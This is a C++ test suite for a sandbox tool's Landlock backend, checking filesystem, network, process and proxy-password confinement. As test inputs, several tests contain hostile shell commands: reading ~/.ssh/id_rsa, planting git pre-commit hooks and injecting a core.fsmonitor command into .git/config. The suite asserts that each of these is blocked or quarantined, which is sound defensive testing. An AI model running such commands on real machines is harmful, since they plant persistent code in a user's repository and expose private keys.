// The Landlock + seccomp backend (LL-1), forced by `[sandbox] backend = "landlock"`: what it
// keeps of FS, NET and PROC without namespaces. make test runs this suite a second time with the
// whole binary under tests/standin/no_userns (namespaces refused, as in a default Docker
// container) and CORDON_TEST_LANDLOCK_SETTING=auto: the same tests, reached by the fallback.
// Network rule of these tests: traffic goes only to loopback servers the test starts; a refused
// host is a name under .invalid or an unlisted loopback port.
#include <fcntl.h>
#include <linux/landlock.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <mutex>
#include <regex>
#include <sstream>
#include <thread>

#include "harness.h"
#include "loopback_server.h"
#include "rpc_client.h"

namespace cordon::it {
namespace {

bool landlock_serves() {
  long abi = syscall(SYS_landlock_create_ruleset, nullptr, 0, LANDLOCK_CREATE_RULESET_VERSION);
  return abi >= 4;
}

#define REQUIRE_LANDLOCK()                                                             \
  do {                                                                                 \
    if (!landlock_serves()) {                                                          \
      const char* must = std::getenv("CORDON_MUST_WORK");                              \
      if (must && std::string(must) == "1") FAIL() << "Landlock ABI 4 is unavailable"; \
      GTEST_SKIP() << "Landlock ABI 4 is unavailable";                                 \
    }                                                                                  \
  } while (0)

// A world whose config picks the Landlock backend.
struct LandlockWorld : World {
  LandlockWorld() { config("[sandbox]\nbackend = \"" + setting() + "\"\n"); }
  // "landlock", or the run's CORDON_TEST_LANDLOCK_SETTING ("auto" under the stand-in).
  static std::string setting() {
    const char* s = std::getenv("CORDON_TEST_LANDLOCK_SETTING");
    return s && *s ? s : "landlock";
  }
};

// A Landlock world's config with a [network] allow list.
std::string landlock_allow(const std::vector<std::string>& allow) {
  std::string t =
      "[sandbox]\nbackend = \"" + LandlockWorld::setting() + "\"\n[network]\nallow = [";
  for (size_t i = 0; i < allow.size(); ++i) t += (i ? ", \"" : "\"") + allow[i] + "\"";
  return t + "]\n";
}

// An HTTP server on the machine's loopback, outside every sandbox: it serves the files below
// `root` (404 for anything else; the query is ignored), one request per connection, and keeps
// the paths it was asked for.
class FileServer {
 public:
  explicit FileServer(std::string root) : root_(std::move(root)) {}
  int port() const { return server_.port(); }
  std::string asked() {
    std::lock_guard<std::mutex> lock(mu_);
    return asked_;
  }

 private:
  void serve(int c) {
    timeval tv{20, 0};
    setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    std::string got;
    char buf[4096];
    while (got.find("\r\n\r\n") == std::string::npos) {
      ssize_t n = read(c, buf, sizeof buf);
      if (n <= 0) return (void)close(c);
      got.append(buf, static_cast<size_t>(n));
    }
    const size_t s1 = got.find(' ');
    std::string path = got.substr(s1 + 1, got.find(' ', s1 + 1) - s1 - 1);
    path = path.substr(0, path.find('?'));
    {
      std::lock_guard<std::mutex> lock(mu_);
      asked_ += path + "\n";
    }
    std::string body, status = "404 Not Found";
    struct stat st{};
    if (path.find("..") == std::string::npos && stat((root_ + path).c_str(), &st) == 0 &&
        S_ISREG(st.st_mode)) {
      std::ifstream f(root_ + path, std::ios::binary);
      std::stringstream ss;
      ss << f.rdbuf();
      body = ss.str();
      status = "200 OK";
    }
    std::string reply = "HTTP/1.1 " + status + "\r\nContent-Length: " +
                        std::to_string(body.size()) + "\r\nConnection: close\r\n\r\n" + body;
    for (size_t off = 0; off < reply.size();) {
      ssize_t w = write(c, reply.data() + off, reply.size() - off);
      if (w <= 0) break;
      off += static_cast<size_t>(w);
    }
    close(c);
  }

  std::string root_;
  std::mutex mu_;
  std::string asked_;
  LoopbackServer server_{[this](int c) { serve(c); }};  // last: stops first
};

// The port and password of the proxy URL a command printed ("http://cordon:PW@127.0.0.1:PORT").
bool proxy_url_parts(const std::string& url, int& port, std::string& password) {
  std::smatch m;
  static const std::regex re("^http://cordon:([0-9a-f]{32})@127\\.0\\.0\\.1:([0-9]+)$");
  if (!std::regex_match(url, m, re)) return false;
  password = m[1];
  port = std::stoi(m[2]);
  return true;
}

// A process of the machine whose command line holds `text` (read from /proc, so that it needs
// no procps: the suite also runs in a minimal container).
bool host_has_process(const std::string& text) {
  for (const auto& [pid, line] : command_lines())
    if (pid != getpid() && line.find(text) != std::string::npos) return true;
  return false;
}

TEST(LandlockBackend, WriteOutsideTheProjectFailsAndLeavesTheFile) {  // LL-1, FS-2
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(w.home() + "/outside.txt", "original\n");
  Proc r = w.sh("echo changed > \"$HOME/outside.txt\"");
  EXPECT_NE(r.status, 0) << r.out << r.err;
  EXPECT_EQ(w.read(w.home() + "/outside.txt"), "original\n");
  r = w.sh("touch \"$HOME/new-file\"");
  EXPECT_NE(r.status, 0);
  EXPECT_FALSE(w.exists(w.home() + "/new-file"));
}

TEST(LandlockBackend, WritesInTheProjectWork) {  // LL-1, FS-2
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  Proc r = w.sh(
      "echo made > made.txt && mkdir -p d/e && mv made.txt d/e/moved.txt && "
      "echo gone > x && rm x && cat d/e/moved.txt");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "made\n");
  EXPECT_EQ(w.read("d/e/moved.txt"), "made\n");
}

TEST(LandlockBackend, HiddenKeyFailsToOpen) {  // LL-1, FS-4
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(w.home() + "/.ssh/id_rsa", "SECRET-KEY\n", 0600);
  w.write(w.home() + "/visible.txt", "seen\n");
  Proc r = w.sh("cat \"$HOME/.ssh/id_rsa\"");
  EXPECT_NE(r.status, 0);
  EXPECT_EQ(r.out.find("SECRET-KEY"), std::string::npos);
  // Its siblings stay readable.
  r = w.sh("cat \"$HOME/visible.txt\" && cat README.md");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "seen\nhello\n");
}

// FS-3, FS-4: Landlock does not replace the machine's /tmp, so a hidden path there is hidden
// like anywhere else (bwrap's private /tmp hides it by being bound over it).
TEST(LandlockBackend, HiddenPathUnderTheMachinesTmpFailsToOpen) {  // LL-1, FS-3, FS-4
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  char dir[] = "/tmp/cordon-ll-hidden-XXXXXX";
  ASSERT_NE(mkdtemp(dir), nullptr);
  const std::string secret = std::string(dir) + "/token";
  w.write(secret, "TMP-SECRET\n", 0644);
  chmod(dir, 0755);
  w.config("[sandbox]\nbackend = \"" + LandlockWorld::setting() + "\"\nhide = [\"" + secret +
           "\"]\n");
  Proc r = w.sh("cat " + secret);
  EXPECT_NE(r.status, 0) << r.out;
  EXPECT_EQ(r.out.find("TMP-SECRET"), std::string::npos);
  unlink(secret.c_str());
  rmdir(dir);
}

// FS-9: the devices commands read and write by name work; the machine's shared memory and
// terminals do not reach the command.
TEST(LandlockBackend, DevicesWorkAndSharedMemoryIsHidden) {  // LL-1, FS-9
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  Proc r = w.sh(
      "head -c 4 /dev/urandom | wc -c; head -c 3 /dev/zero | wc -c; echo x > /dev/null "
      "&& echo null-ok");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "4\n3\nnull-ok\n");
  r = w.sh("echo x > /dev/shm/cordon-ll-" + std::to_string(getpid()) + " && echo wrote-shm");
  EXPECT_EQ(r.out.find("wrote-shm"), std::string::npos);
}

TEST(LandlockBackend, TmpdirIsTheSessionsOwnAndWritable) {  // LL-1, FS-3
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  Proc a = w.sh("echo in-tmp > \"$TMPDIR/f\" && cat \"$TMPDIR/f\" && echo \"$TMPDIR\"");
  ASSERT_EQ(a.status, 0) << a.err;
  EXPECT_EQ(a.out.rfind("in-tmp\n", 0), 0u) << a.out;
  const std::string tmpdir = a.out.substr(7, a.out.size() - 8);
  EXPECT_NE(tmpdir, "/tmp");
  // Another session gets another folder and cannot write in this one's, nor in /tmp.
  Proc b = w.sh("echo \"$TMPDIR\"; echo x > /tmp/cordon-ll-" + std::to_string(getpid()) +
                " && echo wrote-tmp");
  EXPECT_EQ(b.out.find("wrote-tmp"), std::string::npos) << b.out;
  EXPECT_NE(b.out.substr(0, b.out.find('\n')), tmpdir);
}

TEST(LandlockBackend, LoopbackConnectionsAreRefused) {  // LL-1, NET-1
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  int port = 0;
  int fd = listen_on_host_loopback(port);
  ASSERT_GE(fd, 0);
  ASSERT_TRUE(host_connects(port));
  const std::string p = std::to_string(port);
  Proc r = w.py(
      "import socket\n"
      "try:\n"
      "  socket.create_connection(('127.0.0.1', " +
      p +
      "), timeout=5); print('connected')\n"
      "except OSError as e: print('refused', e.errno)\n");
  EXPECT_EQ(r.out.rfind("refused", 0), 0u) << r.out << r.err;
  if (access("/usr/bin/curl", X_OK) == 0) {
    r = w.sh("curl -sS --max-time 5 http://127.0.0.1:" + p + "/ && echo reached");
    EXPECT_NE(r.status, 0);
    EXPECT_EQ(r.out.find("reached"), std::string::npos);
  }
  // Nor can it listen.
  r = w.py("import socket\ns=socket.socket()\ns.bind(('127.0.0.1', 0))\nprint('bound')\n");
  EXPECT_EQ(r.out.find("bound"), std::string::npos) << r.out;
  close(fd);
}

TEST(LandlockBackend, UnixAndUdpSocketsAreRefused) {  // LL-1, NET-2
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  Proc r = w.py(
      "import socket\n"
      "for fam, typ in ((socket.AF_UNIX, socket.SOCK_STREAM), (socket.AF_INET, "
      "socket.SOCK_DGRAM)):\n"
      "  try:\n"
      "    socket.socket(fam, typ); print('made')\n"
      "  except PermissionError: print('refused')\n"
      "a, b = socket.socketpair(); print('pair')\n");
  EXPECT_EQ(r.out, "refused\nrefused\npair\n") << r.err;
}

TEST(LandlockBackend, BackgroundProcessesEndWithTheCommand) {  // LL-1, PROC-1, PROC-3
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  std::string tag = std::to_string(32000 + getpid() % 1000);
  Proc r = w.sh("sleep " + tag + "1 & setsid sleep " + tag + "2 & echo started");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "started\n");
  EXPECT_FALSE(host_has_process("sleep " + tag + "1"));
  EXPECT_FALSE(host_has_process("sleep " + tag + "2"));
}

// PROC-3: a process that dropped cordon's mark cannot be told from another command's: it is
// not killed on a guess, and the result is withheld, naming it, until it is gone.
TEST(LandlockBackend, AnUnmarkedLeftoverIsNamedNotGuessed) {  // LL-1, PROC-3
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string tag = std::to_string(33000 + getpid() % 1000) + "7";
  Proc r = w.sh("env -u CORDON_RUN setsid sleep " + tag +
                " </dev/null >/dev/null 2>&1 & "
                "sleep 0.2; echo started");
  EXPECT_EQ(r.status, 125) << r.out << r.err;
  EXPECT_NE(r.err.find("kill -9"), std::string::npos) << r.err;
  run_program({"/usr/bin/pkill", "-f", "sleep " + tag}, {{"PATH", "/usr/bin:/bin"}}, "/");
}

// The server runs its commands in the same backend, and says which.
TEST(LandlockBackend, ServeRunsItsCommandsUnderLandlock) {  // LL-1, FS-2, FS-4
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.write(w.home() + "/.ssh/id_rsa", "PRIVATE KEY\n");
  RpcClient client({"serve"}, w.env, w.project());
  json init = client.call("initialize", {{"project", w.project()}});
  ASSERT_TRUE(init.contains("result")) << init.dump() << client.stderr_text();
  EXPECT_EQ(init["result"]["sandbox"]["backend"], "landlock");
  // Said at the session's start in this face too (LL-1).
  EXPECT_NE(init["result"]["notice"].dump().find("Landlock + seccomp"), std::string::npos)
      << init.dump();
  json r =
      client.call("exec", {{"command",
                            "cat ~/.ssh/id_rsa || echo hidden; "
                            "echo x > \"$HOME/outside.txt\" || echo refused; echo ok > in.txt"}});
  ASSERT_TRUE(r.contains("result")) << r.dump();
  EXPECT_EQ(r["result"]["stdout"], "hidden\nrefused\n");
  EXPECT_EQ(w.read("in.txt"), "ok\n");
  EXPECT_FALSE(w.exists(w.home() + "/outside.txt"));
}

TEST(LandlockBackend, PolicyNamesTheBackendAndWhatItGivesUp) {  // LL-1
  LandlockWorld w;
  Proc r = w.cordon({"policy"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.out.find("Landlock + seccomp"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("gives up"), std::string::npos);
  EXPECT_NE(r.out.find("a private process view"), std::string::npos);
  if (LandlockWorld::setting() == "auto") return;  // under the stand-in: the fallback's say
  World plain;  // "auto" keeps bubblewrap where it runs
  r = plain.cordon({"policy"});
  EXPECT_NE(r.out.find("bubblewrap (Linux)"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("Landlock"), std::string::npos) << r.out;
}

TEST(LandlockBackend, EnvironmentIsStripped) {  // LL-1, ENV-1
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  w.env["OPENAI_API_KEY"] = "sk-secret";
  Proc r = w.sh("echo \"key=${OPENAI_API_KEY:-none} sandbox=$CORDON_SANDBOX\"");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "key=none sandbox=1\n");
}

// NET-7 under Landlock: an allowed host is reached through the proxy cordon runs on the
// machine's loopback, with an absolute-form request and a CONNECT tunnel; the proxy's port is
// a free one (not a fixed 3128: the loopback is shared), the URL carries a password, and the
// proxy ends with the command.
TEST(LandlockBackend, AllowedHostIsReachedThroughTheProxy) {  // LL-1, NET-7, NET-6
  REQUIRE_LANDLOCK();
  World w;
  w.write(w.root() + "/srv/hello.txt", "hello through the proxy\n");
  FileServer up(w.root() + "/srv");
  const std::string port = std::to_string(up.port());
  w.config(landlock_allow({"127.0.0.1:" + port}));
  // NO_PROXY names 127.0.0.1: a listed loopback server is asked for through the proxy.
  Proc r = w.sh("echo \"$HTTPS_PROXY\"; curl -sS --max-time 20 --noproxy '' http://127.0.0.1:" +
                port + "/hello.txt && curl -sS --max-time 20 --noproxy '' -p http://127.0.0.1:" +
                port + "/hello.txt");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  const std::string url = r.out.substr(0, r.out.find('\n'));
  int proxy_port = 0;
  std::string password;
  ASSERT_TRUE(proxy_url_parts(url, proxy_port, password)) << url;
  EXPECT_NE(proxy_port, 3128);
  EXPECT_EQ(r.out.substr(url.size() + 1), "hello through the proxy\nhello through the proxy\n")
      << r.err;
  EXPECT_EQ(r.err.find("is not in [network] allow"), std::string::npos) << r.err;
  EXPECT_EQ(up.asked(), "/hello.txt\n/hello.txt\n");
  EXPECT_FALSE(host_connects(proxy_port)) << "the proxy outlived the command";
  // Another command gets another password.
  Proc again = w.sh("echo \"$HTTPS_PROXY\"");
  int port2 = 0;
  std::string password2;
  ASSERT_TRUE(proxy_url_parts(again.out.substr(0, again.out.find('\n')), port2, password2))
      << again.out;
  EXPECT_NE(password2, password);
}

// NET-9, RES-2 under Landlock: a host not on the list gets the proxy's 403 over http and
// https, and the result one note naming it.
TEST(LandlockBackend, UnlistedHostIsRefusedWithANote) {  // LL-1, NET-9, RES-2
  REQUIRE_LANDLOCK();
  World w;
  w.config(landlock_allow({"registry.npmjs.org"}));
  Proc r = w.sh(
      "curl -sS -i --max-time 20 http://not-listed.invalid/x; echo; "
      "curl -sS --max-time 20 https://not-listed.invalid/ 2>&1; echo \"https exit $?\"");
  EXPECT_NE(r.out.find("HTTP/1.1 403 Forbidden"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("X-Cordon-Refusal: not in allow"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("https exit 56"), std::string::npos) << r.out;
  const std::string note = "not-listed.invalid:443 is not in [network] allow";
  ASSERT_NE(r.err.find(note), std::string::npos) << r.err;
  EXPECT_EQ(r.err.find(note), r.err.rfind(note)) << "one note per host";
  EXPECT_NE(r.err.find("not-listed.invalid:80 is not in [network] allow"), std::string::npos);
}

// NET-1, NET-2 under Landlock with an allowlist: the proxy's port is the only one the command
// may connect to; the listed server itself, directly, and another loopback port are refused,
// and UDP and listening stay refused.
TEST(LandlockBackend, OnlyTheProxysPortIsOpen) {  // LL-1, NET-1, NET-2, RES-2
  REQUIRE_LANDLOCK();
  World w;
  FileServer up(w.root() + "/srv");
  int other_port = 0;
  int other = listen_on_host_loopback(other_port);
  ASSERT_GE(other, 0);
  w.config(landlock_allow({"127.0.0.1:" + std::to_string(up.port())}));
  Proc r = w.py(
      "import os, socket\n"
      "P = int(os.environ['HTTPS_PROXY'].rsplit(':', 1)[1])\n"
      "for port in (P, " + std::to_string(up.port()) + ", " + std::to_string(other_port) + "):\n"
      "  try:\n"
      "    socket.create_connection(('127.0.0.1', port), timeout=5).close(); print('connected')\n"
      "  except OSError as e: print('refused')\n"
      "try:\n"
      "  socket.socket(socket.AF_INET, socket.SOCK_DGRAM); print('udp')\n"
      "except PermissionError: print('no udp')\n"
      "try:\n"
      "  s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); print('listening')\n"
      "except OSError: print('no listening')\n");
  EXPECT_EQ(r.out, "connected\nrefused\nrefused\nno udp\nno listening\n") << r.err;
  // RES-2: a program that goes around the proxy is told that only proxied traffic leaves.
  r = w.sh("curl -sS --max-time 20 --noproxy '*' http://127.0.0.1:" + std::to_string(up.port()) +
           "/");
  EXPECT_NE(r.status, 0);
  EXPECT_NE(r.err.find("only proxied traffic can leave"), std::string::npos) << r.err;
  EXPECT_EQ(r.err.find("Unix-domain"), std::string::npos) << r.err;
  EXPECT_EQ(up.asked(), "");
  close(other);
}

// The proxy on the machine's shared loopback asks every client for its password: a request
// without it, or with a wrong one, gets 407 (and the connection stays open for the right one,
// as curl and git send it); SOCKS5 needs RFC 1929's user and password. A host asked for only
// without the password is named in a note.
TEST(LandlockBackend, TheProxyAsksEveryClientForItsPassword) {  // LL-1, NET-7, NET-9
  REQUIRE_LANDLOCK();
  World w;
  w.write(w.root() + "/srv/hello.txt", "hello\n");
  FileServer up(w.root() + "/srv");
  const std::string port = std::to_string(up.port());
  w.config(landlock_allow({"127.0.0.1:" + port}));
  Proc r = w.py(std::string(R"PY(
import base64, os, socket, struct
url = os.environ["HTTPS_PROXY"]
P = int(url.rsplit(":", 1)[1])
user, pw = url[len("http://"):].split("@")[0].split(":")
def head(s):
    h = b""
    while b"\r\n\r\n" not in h:
        d = s.recv(1)
        if not d: break
        h += d
    return h.decode()
def status(h): return h.split("\r\n")[0]
def auth(u, p): return "Proxy-Authorization: Basic %s\r\n" % base64.b64encode(("%s:%s" % (u, p)).encode()).decode()
def connect(s, host, extra):
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (host, host, extra)).encode())
    h = head(s)
    n = int([l.split(":")[1] for l in h.split("\r\n") if l.lower().startswith("content-length")][0] or 0) if "407" in h else 0
    if n: s.recv(n)
    return status(h)
s = socket.create_connection(("127.0.0.1", P), timeout=20)
target = "127.0.0.1:)PY") + port + R"PY("
print(connect(s, target, ""))
print(connect(s, target, auth(user, "wrong" + pw)))
print(connect(s, target, auth(user, pw)))
s.sendall(b"GET /hello.txt HTTP/1.1\r\nHost: x\r\n\r\n")
print(head(s).split("\r\n")[0])
s = socket.create_connection(("127.0.0.1", P), timeout=20)
print(connect(s, "only-without-password.invalid:443", ""))
s = socket.create_connection(("127.0.0.1", P), timeout=20)
s.sendall(b"\x05\x01\x00")
print("socks no-auth:", s.recv(2).hex())
s = socket.create_connection(("127.0.0.1", P), timeout=20)
s.sendall(b"\x05\x01\x02")
print("socks user/password:", s.recv(2).hex())
s.sendall(bytes([1, len(user)]) + user.encode() + bytes([len(pw)]) + pw.encode())
print("login:", s.recv(2).hex())
s.sendall(b"\x05\x01\x00\x01" + socket.inet_aton("127.0.0.1") + struct.pack(">H", )PY" + port +
                     R"PY())
print("socks reply:", s.recv(10)[1])
s.sendall(b"GET /hello.txt HTTP/1.1\r\nHost: x\r\n\r\n")
print(head(s).split("\r\n")[0])
)PY");
  EXPECT_EQ(r.out,
            "HTTP/1.1 407 Proxy Authentication Required\n"
            "HTTP/1.1 407 Proxy Authentication Required\n"
            "HTTP/1.1 200 Connection Established\n"
            "HTTP/1.1 200 OK\n"
            "HTTP/1.1 407 Proxy Authentication Required\n"
            "socks no-auth: 05ff\n"
            "socks user/password: 0502\n"
            "login: 0100\n"
            "socks reply: 0\n"
            "HTTP/1.1 200 OK\n")
      << r.err;
  EXPECT_NE(r.err.find("only-without-password.invalid:443 came to the proxy without its "
                       "password"),
            std::string::npos)
      << r.err;
  // The host reached with the password once is not named.
  EXPECT_EQ(r.err.find("127.0.0.1:" + port + " came to the proxy"), std::string::npos) << r.err;
}

// git waits to be asked for the proxy's password (its proxy authentication is "anyauth"): it
// gets the 407, answers, and clones through the proxy.
TEST(LandlockBackend, GitAnswersTheProxysQuestionAndClones) {  // LL-1, NET-7
  REQUIRE_LANDLOCK();
  World w;
  const std::string bare = w.root() + "/srv/repo.git";
  ASSERT_EQ(w.host({"git", "clone", "-q", "--bare", w.project(), bare}).status, 0);
  ASSERT_EQ(w.host({"git", "--git-dir", bare, "update-server-info"}).status, 0);
  FileServer up(w.root() + "/srv");
  const std::string port = std::to_string(up.port());
  w.config(landlock_allow({"127.0.0.1:" + port}));
  Proc r = w.sh("NO_PROXY= no_proxy= git clone -q http://127.0.0.1:" + port +
                "/repo.git cloned && cat cloned/README.md");
  EXPECT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_EQ(r.out, "hello\n") << r.err;
  EXPECT_EQ(r.err.find("without its password"), std::string::npos) << r.err;
  EXPECT_NE(up.asked().find("/repo.git/info/refs"), std::string::npos) << up.asked();
}

// pip sends the proxy URL's user and password with its first request.
TEST(LandlockBackend, PipSendsTheProxysPassword) {  // LL-1, NET-7
  REQUIRE_LANDLOCK();
  World w;
  w.write(w.root() + "/srv/simple/tinypkg/index.html", "<html><body></body></html>\n");
  FileServer up(w.root() + "/srv");
  const std::string port = std::to_string(up.port());
  w.config(landlock_allow({"127.0.0.1:" + port}));
  Proc r = w.sh("NO_PROXY= no_proxy= /usr/bin/python3 -m pip download --no-cache-dir -q -d "
                "\"$TMPDIR/dl\" --index-url http://127.0.0.1:" +
                port + "/simple/ tinypkg");
  if (r.err.find("No module named pip") != std::string::npos) GTEST_SKIP() << "no pip here";
  EXPECT_NE(up.asked().find("/simple/tinypkg/"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.err.find("without its password"), std::string::npos) << r.err;
}

// NET-10, NET-9 under Landlock, through `cordon serve`: a host no entry names is asked about
// while the connection waits, a yes reaches it and a no refuses it; the result lists both
// hosts, and the refused one has its note.
TEST(LandlockBackend, ServeAsksAboutUnknownHostsAndListsThem) {  // LL-1, NET-9, NET-10
  REQUIRE_LANDLOCK();
  World w;
  w.write(w.root() + "/srv/hello.txt", "hello asked\n");
  FileServer up(w.root() + "/srv");
  const std::string literal = "127.0.0.1:" + std::to_string(up.port());
  w.config("[sandbox]\nbackend = \"" + LandlockWorld::setting() +
           "\"\n[network]\nallow = []\nunknown = \"ask\"\n");
  RpcClient client({"serve"}, w.env, w.project());
  json init = client.call("initialize", {{"project", w.project()}});
  ASSERT_TRUE(init.contains("result")) << init.dump() << client.stderr_text();
  std::mutex mu;
  std::vector<std::string> asked;
  client.on_request([&](const json& req) {
    std::lock_guard<std::mutex> lock(mu);
    asked.push_back(req["params"].value("host", ""));
    if (req["params"].value("host", "") == literal)
      return RpcClient::Answer{{{"decision", "allow"}}};
    return RpcClient::Answer{{{"decision", "deny"}}};
  });
  json r = client.call(
      "exec", {{"command", "curl -sS --max-time 20 --noproxy '' -p http://" + literal +
                               "/hello.txt; curl -sS --max-time 20 https://asked-no.invalid/ "
                               "2>/dev/null; echo \"refused $?\""}});
  ASSERT_TRUE(r.contains("result")) << r.dump();
  const json& res = r["result"];
  EXPECT_EQ(res["stdout"], "hello asked\nrefused 56\n") << res.dump();
  {
    std::lock_guard<std::mutex> lock(mu);
    EXPECT_EQ(asked, (std::vector<std::string>{literal, "asked-no.invalid:443"}));
  }
  const json& c = res["connections"];
  ASSERT_EQ(c.size(), 2u) << c.dump();
  EXPECT_EQ(c[0]["host"], literal);
  EXPECT_EQ(c[0]["allowed"], true);
  EXPECT_EQ(c[1]["host"], "asked-no.invalid:443");
  EXPECT_EQ(c[1]["rule"], "asked: refused (user)");
  EXPECT_NE(res["notes"].dump().find("asked-no.invalid:443 is not in [network] allow"),
            std::string::npos)
      << res["notes"].dump();
}

// `cordon policy` says where the proxy runs under Landlock.
TEST(LandlockBackend, PolicyTellsWhereTheProxyRuns) {  // LL-1, NET-11
  World w;
  w.config(landlock_allow({"registry.npmjs.org"}));
  Proc r = w.cordon({"policy"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.out.find("a free port and a password per command"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("closed: none inside each command"), std::string::npos) << r.out;
  r = w.cordon({"policy", "--json"});
  EXPECT_EQ(r.status, 0) << r.err;
  json j = json::parse(r.out);
  EXPECT_EQ(j["network"], "the allowlist proxy") << r.out;
}

// Issue 31: Landlock cannot keep .git/hooks and .git/config read-only while git writes beside
// them; aftercare keeps their bytes and puts them back, and moves a planted hook aside.
TEST(LandlockBackend, PlantedGitHookAndConfigAreCaught) {  // LL-1, GIT-1, GIT-9
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string config = w.read(".git/config");
  Proc r = w.sh(
      "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; "
      "printf '[core]\\n\\tfsmonitor = /bin/false\\n' >> .git/config");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
  EXPECT_EQ(w.read(".git/config"), config);
}

// What the user's own git sees outside, after the command: the original config, and a commit
// that runs no planted hook (the hook would leave `ran` beside the project).
void expect_users_git_untouched(const LandlockWorld& w, const std::string& config) {
  EXPECT_EQ(w.read(".git/config"), config);
  Proc list = w.host({"git", "config", "--list", "--local"});
  EXPECT_EQ(list.status, 0) << list.err;
  EXPECT_EQ(list.out.find("fsmonitor"), std::string::npos) << list.out;
  EXPECT_EQ(list.out.find("hookspath"), std::string::npos) << list.out;
  Proc status = w.host({"git", "status", "--porcelain"});
  EXPECT_EQ(status.status, 0) << status.err;
  Proc commit = w.host({"git", "commit", "-q", "--allow-empty", "-m", "by the user"});
  EXPECT_EQ(commit.status, 0) << commit.err;
  EXPECT_FALSE(w.exists(w.root() + "/ran")) << "a planted hook ran on the user's commit";
}

std::string planted_hook(const LandlockWorld& w) {
  return "#!/bin/sh\\ntouch " + w.root() + "/ran\\n";
}

// The result names each move (PROT-7): what moved, and where to.
bool says_moved(const Proc& r, const std::string& what) {
  return r.err.find(what) != std::string::npos &&
         r.err.find(".cordon-quarantined-") != std::string::npos;
}

TEST(LandlockBackend, AppendToGitConfigIsMovedAsideAndPutBack) {  // LL-1, GIT-1, PROT-7
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string config = w.read(".git/config");
  Proc r = w.sh(
      "printf '[core]\\n\\tfsmonitor = \"touch " + w.root() +
      "/ran\"\\n' >> .git/config && git config --local --list");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_NE(r.out.find("core.fsmonitor"), std::string::npos);  // the command saw its change
  EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
  EXPECT_NE(r.err.find("put yours back"), std::string::npos) << r.err;
  // The command's version is kept beside it, never deleted.
  Proc found = w.host({"/bin/sh", "-c", "cat .git/config.cordon-quarantined-*"});
  EXPECT_NE(found.out.find("fsmonitor"), std::string::npos) << found.out;
  expect_users_git_untouched(w, config);
}

TEST(LandlockBackend, PlantedPreCommitHookIsMovedAsideAndNeverRuns) {  // LL-1, GIT-1, PROT-7
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string config = w.read(".git/config");
  Proc r = w.sh("printf '" + planted_hook(w) +
                "' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
  EXPECT_TRUE(says_moved(r, ".git/hooks/pre-commit")) << r.err;
  expect_users_git_untouched(w, config);
}

TEST(LandlockBackend, TruncatedAndRewrittenHookIsPutBack) {  // LL-1, GIT-1, PROT-7
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string mine = "#!/bin/sh\necho own hook\n";
  w.write(".git/hooks/pre-commit", mine, 0755);
  const std::string config = w.read(".git/config");
  // O_TRUNC keeps the inode: only the bytes tell.
  Proc r = w.py("import os\nfd = os.open('.git/hooks/pre-commit', os.O_WRONLY | os.O_TRUNC)\n"
                "os.write(fd, b'" + planted_hook(w) + "')\nos.close(fd)\n");
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(w.read(".git/hooks/pre-commit"), mine);
  struct stat st;
  ASSERT_EQ(stat(w.abs(".git/hooks/pre-commit").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0755u);
  EXPECT_TRUE(says_moved(r, ".git/hooks/pre-commit")) << r.err;
  expect_users_git_untouched(w, config);
}

TEST(LandlockBackend, RenamedHooksFolderWithAPlantedHookIsPutBack) {  // LL-1, GIT-1, GIT-9
  REQUIRE_LANDLOCK();
  LandlockWorld w;
  const std::string mine = "#!/bin/sh\nexit 0\n";
  w.write(".git/hooks/pre-push", mine, 0755);
  const std::string config = w.read(".git/config");
  // Renamed within .git, and carried out of it: both are put back.
  for (const char* away : {".git/old-hooks", "carried-hooks"}) {
    Proc r = w.sh(std::string("mv .git/hooks ") + away + " && mkdir .git/hooks && printf '" + planted_hook(w) +
